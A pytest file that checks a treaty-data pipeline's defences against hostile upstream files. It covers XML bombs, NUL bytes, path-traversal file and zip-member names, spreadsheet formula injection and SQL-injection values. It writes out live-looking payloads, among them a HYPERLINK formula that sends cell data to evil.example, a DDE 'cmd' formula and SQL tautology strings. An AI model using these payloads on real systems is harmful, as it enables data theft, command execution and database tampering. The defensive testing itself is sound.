"""Hostile files and values from upstream: XML bombs and oversized workbooks, CSVs with NUL bytes
or huge fields, path-like file names, formula injection in the outputs, values in SQL."""
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from extractors import cbd_ort_excel as cbd_extractor
from extractors import cites_trade as cites_extractor
from extractors import ramsar_nrf as ramsar_extractor
from extractors.cites_trade import BadFile
from extractors.inbox import pick_up
from extractors.landing import land
from outputs.release import build_release, write_bulk_table
from replica.faults import rewritten, with_bomb
from replica.server import SNAPSHOTS, Replica, Response
from transforms import cbd_ort_excel, cites_trade, ramsar_nrf
from transforms.workbooks import LayoutError

from pipeline_helpers import ALL, harmonized_parts

WORKBOOKS = {  # source -> (extractor, transforms module, a fixture workbook of its inbox)
    "cbd-ort-excel": (cbd_extractor, cbd_ort_excel, "KE_7NR_indicator_data.xlsx"),
    "ramsar-nrf": (ramsar_extractor, ramsar_nrf, None),
}


def fixture_workbook(source: str) -> Path:
    name = WORKBOOKS[source][2]
    inbox = SNAPSHOTS / source / "inbox"
    return inbox / name if name else sorted(inbox.glob("*.xlsx"))[0]


def stage_inbox(tmp_path: Path, source: str, *files: Path) -> Path:
    """Put ``files`` in the source's inbox, then extract and stage it as the DAG does."""
    extractor, transform, _ = WORKBOOKS[source]
    inbox = tmp_path / "var" / "inbox" / source
    inbox.mkdir(parents=True, exist_ok=True)
    for path in files:
        (inbox / path.name).write_bytes(path.read_bytes())
    fetch_log = extractor.extract(tmp_path / "var", tmp_path / "run")
    return transform.stage(fetch_log, tmp_path / "var", tmp_path / "run" / "staging")


# Workbooks.

@pytest.mark.parametrize("source", WORKBOOKS)
def test_a_workbook_with_an_xml_bomb_is_refused_naming_source_and_file(tmp_path, source):
    original = fixture_workbook(source)
    bomb = rewritten(original, tmp_path / original.name, "xl/worksheets/sheet1.xml", with_bomb)
    with pytest.raises(LayoutError, match=rf"\[{source}\] {bomb.name}: refused: its XML declares entities"):
        stage_inbox(tmp_path, source, bomb)


@pytest.mark.parametrize("limit, message", [
    ("max_rows", r"sheet '\w+' has rows past row \d+, over the declared limit of 1 rows"),
    ("max_unzipped_bytes", r"unpacks to \d+ bytes, over the declared limit of 1"),
])
@pytest.mark.parametrize("source", WORKBOOKS)
def test_a_workbook_over_a_declared_limit_is_refused(tmp_path, monkeypatch, source, limit, message):
    extractor, transform, _ = WORKBOOKS[source]
    small = {**extractor.layout(), limit: 1}
    monkeypatch.setattr(transform, "layout", lambda: small)
    original = fixture_workbook(source)
    with pytest.raises(LayoutError, match=rf"\[{source}\] {original.name}: {message}"):
        stage_inbox(tmp_path, source, original)


# CSV exports (CITES comparative tabulations from the inbox).

COMPTAB = SNAPSHOTS / "cites-trade" / "inbox" / "comptab_2026-11-21_comma_separated.csv"


def stage_comptab(data_dir: Path, replica, name: str, third_line) -> Path:
    """The replica's release and one comptab export whose third line is ``third_line(line)``."""
    lines = COMPTAB.read_bytes().split(b"\n")
    lines[2] = third_line(lines[2])
    inbox = data_dir / "inbox" / "cites-trade"
    inbox.mkdir(parents=True)
    (inbox / name).write_bytes(b"\n".join(lines))
    fetch_log = cites_extractor.extract(data_dir, data_dir / "run", url=replica.source_urls()["cites-trade"])
    return cites_trade.stage(fetch_log, data_dir, data_dir / "run" / "staging")


def test_a_csv_with_a_nul_byte_fails_the_file_naming_it_and_the_line(data_dir, replica):
    with pytest.raises(BadFile, match=r"\[cites-trade\] comptab_nul.csv: NUL byte in line 3 .* the file is not read"):
        stage_comptab(data_dir, replica, "comptab_nul.csv", lambda line: line.replace(b"Python", b"Py\0thon"))


def test_a_line_with_a_10_mb_field_is_quarantined_naming_the_file(data_dir, replica):
    staging = stage_comptab(data_dir, replica, "comptab_huge.csv",
                            lambda line: line.replace(b"Python regius", b"P" * (10 << 20)))
    q = pd.read_parquet(staging / "quarantine.parquet")
    huge = q[q["source_record_id"].str.startswith("comptab_huge.csv@")]
    assert huge[["field", "entity"]].values.tolist() == [["line", "comptab_huge.csv"]]
    assert huge["source_record_id"].iloc[0].endswith("#line3") and "Maximum line size" in huge["reason"].iloc[0]
    staged = pd.read_parquet(staging / "comptab")
    assert len(staged) == COMPTAB.read_bytes().count(b"\n") - 2  # every other line (the header is none)


# Upstream file names.

def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


def test_inbox_file_names_are_made_safe_before_they_are_landed_or_logged(tmp_path):
    inbox = tmp_path / "var" / "inbox" / "cites-trade"
    inbox.mkdir(parents=True)
    for name in ("report\\..\\..\\etc\\x.csv", "new\nline.csv", "KE..\u202egpj.csv", ".hidden.csv"):
        (inbox / name).write_bytes(COMPTAB.read_bytes())
    outside = files_under(tmp_path) - files_under(tmp_path / "var" / "inbox")
    found = pick_up(tmp_path / "var", "cites-trade")
    assert [f.name for f in found] == ["KE_gpj.csv", "new_line.csv", "report_etc_x.csv"]
    landed = files_under(tmp_path) - files_under(tmp_path / "var" / "inbox") - outside
    raw = tmp_path / "var" / "raw" / "cites-trade" / "inbox"
    assert landed and all(p.is_relative_to(raw) and p.name.startswith(found[0].landed.sha256) for p in landed)
    assert {p.suffix for p in landed} == {".csv", ".json"}


def test_landing_names_files_by_hash_and_never_climbs_out_of_raw(tmp_path):
    def land_as(entity: str, suffix: str):
        return land(tmp_path, "cites-trade", entity, b"body", url="http://x", params=None, status=200, headers={},
                    terms="", suffix=suffix)

    assert land_as("release", "/../../../x").path.name.endswith(".bin")
    assert land_as("release", ".ZIP").path.suffix == ".zip"
    with pytest.raises(ValueError, match=r"not a source or entity name to land under: '\.\./\.\./x'"):
        land_as("../../x", ".json")
    assert {p.relative_to(tmp_path).parts[:3] for p in files_under(tmp_path)} == {("raw", "cites-trade", "release")}


def test_a_content_disposition_file_name_does_not_name_the_landed_release(data_dir):
    class Traversing(Replica):
        def faults(self, request, response):
            headers = {**response.headers, "Content-Disposition": 'attachment; filename="../../../owned/evil.zip"'}
            return Response(response.status, headers, response.body)

    with Traversing() as server:
        cites_extractor.extract(data_dir, data_dir / "run", url=server.source_urls()["cites-trade"])
    names = {p.relative_to(data_dir).as_posix() for p in files_under(data_dir)}
    assert not any("evil" in name or "owned" in name for name in names)
    assert {n.split("/")[0] for n in names} == {"raw", "run", "state"}


# Formula injection in the outputs.

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_like_text_is_escaped_in_csv_and_workbook_not_in_parquet(data_dir, upstream):
    params = {**ALL, "sources": ["cites-trade"]}
    parts = Path(harmonized_parts("crafted", params)[0])
    trade = pd.read_parquet(parts / "cites_trade.parquet")
    trade.loc[0, "taxon"], trade.loc[1, "taxon"] = FORMULA, "\t@SUM(A1:A9)"
    trade.to_parquet(parts / "cites_trade.parquet", index=False)
    q = pd.read_parquet(parts / "quarantine.parquet")
    q.loc[0, "value"], q.loc[1, "value"], q.loc[2, "value"] = FORMULA, "-2.5e3", "+1 cmd|' /C calc'!A0"
    q.to_parquet(parts / "quarantine.parquet", index=False)
    release = build_release([str(parts)], params, "crafted")

    csv = {name: pd.read_csv(release / f"{name}.csv", dtype=str, keep_default_na=False)
           for name in ("cites_trade", "quarantine")}
    assert {"'" + FORMULA, "'\t@SUM(A1:A9)"} <= set(csv["cites_trade"]["taxon"])  # the bulk CSV, via DuckDB
    assert {"'" + FORMULA, "-2.5e3", "'+1 cmd|' /C calc'!A0"} <= set(csv["quarantine"]["value"])
    assert not csv["cites_trade"]["taxon"].str.startswith(("=", "+", "-", "@", "\t")).any()
    assert {FORMULA, "\t@SUM(A1:A9)"} <= set(pd.read_parquet(release / "cites_trade.parquet")["taxon"])
    with duckdb.connect(str(release / "mea.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM quarantine WHERE value = ?", [FORMULA]).fetchone() == (1,)

    sheet = openpyxl.load_workbook(release / "mea-reporting.xlsx")["quarantine"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
    number = next(c for row in sheet.iter_rows() for c in row if c.value == "-2.5e3")
    assert not number.quotePrefix


# Values in SQL.

def test_slice_values_and_file_names_never_become_sql(data_dir, replica):
    inbox = data_dir / "inbox" / "cites-trade"
    inbox.mkdir(parents=True)
    (inbox / "O'Brien's comptab.csv").write_bytes(COMPTAB.read_bytes())
    fetch_log = cites_extractor.extract(data_dir, data_dir / "run", url=replica.source_urls()["cites-trade"])
    staging = cites_trade.stage(fetch_log, data_dir, data_dir / "run" / "staging")
    assert set(pd.read_parquet(staging / "comptab")["source_file"]) == {"O'Brien's comptab.csv"}

    parts = cites_trade.harmonize(staging, data_dir / "run" / "parts")

    def traded(countries, cycles=()) -> pd.DataFrame:
        """The cites_trade table a release builds for this slice (outputs.release.slice_predicate)."""
        folder = data_dir / f"release-{len(list(data_dir.glob('release-*')))}"
        folder.mkdir()
        selected = {"sources": ["cites-trade"], "countries": countries, "cycles": list(cycles)}
        write_bulk_table(folder, "cites_trade", [parts], None, selected)
        return pd.read_parquet(folder / "cites_trade.parquet")

    assert traded(["KEN') OR TRUE OR ('"]).empty
    assert traded(["KEN"], ["cites:AR2021' OR '1'='1"]).empty
    kenya = traded(["KEN"])
    assert len(kenya) and ((kenya["importer_iso3"] == "KEN") | (kenya["exporter_iso3"] == "KEN")).all()


def test_a_release_member_named_with_a_path_is_unpacked_under_its_own_name_only(tmp_path):
    release = tmp_path / "release.zip"
    with zipfile.ZipFile(SNAPSHOTS / "cites-trade" / "trade_db.zip") as src, zipfile.ZipFile(release, "w") as out:
        first = src.infolist()[0]
        out.writestr("../../owned/trade_db_1.csv", src.read(first))
    before = files_under(tmp_path)
    for name, path in cites_extractor.extracted_members(release, "release.zip"):
        assert name == "trade_db_1.csv" and path.name == name and path.parent.name.startswith("cites-trade-")
    assert files_under(tmp_path) == before and not (tmp_path.parent / "owned").exists()
